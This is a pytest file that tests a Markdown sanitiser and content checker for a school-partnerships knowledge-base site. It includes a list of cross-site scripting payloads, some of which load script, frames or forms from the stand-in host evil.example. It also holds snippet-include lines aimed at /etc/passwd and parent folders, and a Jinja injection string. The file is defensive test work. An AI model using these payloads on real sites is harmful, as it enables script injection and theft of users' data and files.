"""Hostile Markdown never becomes script: `check` rejects each payload, and the sanitised render is inert anyway."""

from __future__ import annotations

import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest

import kb
from conftest import FIXTURE_CONTENT, make_site, run_build_py, site_markdown
from kb.output.sanitise import clean

CASE = "case-studies/fixture-cluster.md"

PAYLOADS = {
    "script tag": "<script>alert(1)</script>",
    "script tag mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script with src": '<script src="https://evil.example/x.js"></script>',
    "img onerror": '<img src="x" onerror="alert(1)">',
    "svg onload": '<svg onload="alert(1)"></svg>',
    "body onload": '<body onload="alert(1)">',
    "event handler on an allowed tag": '<div onclick="alert(1)">click</div>',
    "event handler on span mixed case": '<span OnMouseOver="alert(1)">x</span>',
    "style attribute": '<span style="background:url(javascript:alert(1))">x</span>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="evil.swf"></object>',
    "embed": '<embed src="evil.swf">',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "form": '<form action="https://evil.example"><input name="q"></form>',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "javascript link": "[click](javascript:alert(1))",
    "javascript link mixed case": "[click](JaVaScRiPt:alert(1))",
    "javascript link entity-encoded": "[click](&#106;avascript:alert(1))",
    "javascript link hex entities": "[click](&#x6A;&#x61;vascript:alert(1))",
    "javascript link with a tab": "[click](java\tscript:alert(1))",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "reference link to javascript": "[click][evil]\n\n[evil]: javascript:alert(1)",
    "footnote linking to javascript": "A claim.[^a]\n\n[^a]: See [click](javascript:alert(1)).",
    "autolink to javascript": "<javascript:alert(1)>",
    "attr_list onclick": 'A paragraph.\n{: onclick="alert(1)" }',
    "attr_list on a link": '[text](https://example.org){ onmouseover="alert(1)" }',
    "attr_list on a heading": "## Heading { #id onfocus=alert(1) tabindex=0 }",
    "attr_list href to javascript": '[text](https://example.org){ href="javascript:alert(1)" }',
    "raw anchor to javascript": '<a href="javascript:alert(1)">x</a>',
    "snippet include outside the repo": '--8<-- "/etc/passwd"',
    "snippet include up a folder": '--8<-- "../../secret.md"',
    "html comment hiding script": "<!-- --><script>alert(1)</script><!-- -->",
    "math element with handler": '<math><mtext onclick="alert(1)">x</mtext></math>',
}
JINJA = "{{ config.site_name }} {% for x in range(3) %}{{ x }}{% endfor %}"


def with_body(extra: str) -> str:
    text = (FIXTURE_CONTENT / CASE).read_text()
    return text.replace("## What helped\n", f"## What helped\n\n{extra}\n")


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_check_rejects_the_payload(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURE_CONTENT, content)
    (content / CASE).write_text(with_body(PAYLOADS[name]))
    monkeypatch.chdir(tmp_path)
    errors = [d for d in kb.check(Path("content")).errors if d.path.endswith(CASE)]
    assert errors, f"check accepted {name}"
    assert all(d.field == "body" and 45 <= d.line <= 45 + PAYLOADS[name].count("\n") for d in errors)


class Executable(HTMLParser):
    """Collects anything in HTML that a browser could execute or that loads from elsewhere."""

    DANGEROUS_TAGS: frozenset[str] = frozenset(
        {"script", "iframe", "object", "embed", "base", "form", "link", "meta", "svg", "math", "style"}
    )

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.DANGEROUS_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "action", "xlink:href", "data") and value and runs_script(value):
                self.found.append(f"{tag} {name}={value}")


def runs_script(url: str) -> bool:
    """Whether a browser would run `url` as script (it drops tabs and newlines, and trims spaces and controls)."""
    plain = (
        re.sub(r"[\t\n\r]", "", url)
        .strip(
            "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f "
        )
        .lower()
    )
    return plain.startswith(("javascript:", "vbscript:", "data:"))


def executable(html: str) -> list[str]:
    parser = Executable()
    parser.feed(html)
    return parser.found


def rendered(text: str) -> str:
    """The payload as the site renders it (our Markdown extensions), then sanitised."""
    return clean(site_markdown().convert(text))


def test_unsanitised_render_would_be_dangerous() -> None:
    """The sanitiser is needed: without it, Markdown keeps most payloads."""
    extensions = ["attr_list", "md_in_html"]
    raw = [name for name, text in PAYLOADS.items() if executable(markdown.markdown(text, extensions=extensions))]
    assert len(raw) >= 20


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_sanitised_render_contains_nothing_executable(name: str) -> None:
    assert executable(rendered(PAYLOADS[name])) == []


def test_front_matter_html_is_rejected_and_escaped(tmp_path: Path) -> None:
    project = make_site(tmp_path / "project").parent
    page = project / "content" / CASE
    page.write_text(
        page.read_text().replace(
            "summary: Three primary schools reviewed each other.", 'summary: "<img src=x onerror=alert(1)> reviewed"'
        )
    )
    result = run_build_py("check", "--content", str(project / "content"))
    assert result.returncode == 1 and "summary: expected plain text; found HTML or a script address" in result.stdout


def test_templates_escape_front_matter_values(tmp_path: Path) -> None:
    """Even text that is not HTML-like to `check` is escaped by the layouts."""
    project = make_site(tmp_path / "project").parent
    page = project / "content" / CASE
    page.write_text(page.read_text().replace("period: 2019 to 2020", 'period: "2019 & 2020 > 2018"'))
    assert (
        run_build_py("build", "--config", str(project / "mkdocs.yml"), "--site-dir", str(project / "site")).returncode
        == 0
    )
    html = (project / "site" / "case-studies" / "fixture-cluster" / "index.html").read_text()
    assert "<dd>2019 &amp; 2020 &gt; 2018</dd>" in html


def test_jinja_in_content_is_never_evaluated(tmp_path: Path) -> None:
    project = make_site(tmp_path / "project").parent
    (project / "content" / CASE).write_text(with_body(JINJA))
    assert (
        run_build_py("build", "--config", str(project / "mkdocs.yml"), "--site-dir", str(project / "site")).returncode
        == 0
    )
    html = (project / "site" / "case-studies" / "fixture-cluster" / "index.html").read_text()
    assert "{{ config.site_name }} {% for x in range(3) %}{{ x }}{% endfor %}" in html
    assert "School Partnerships Knowledge Base 012" not in html
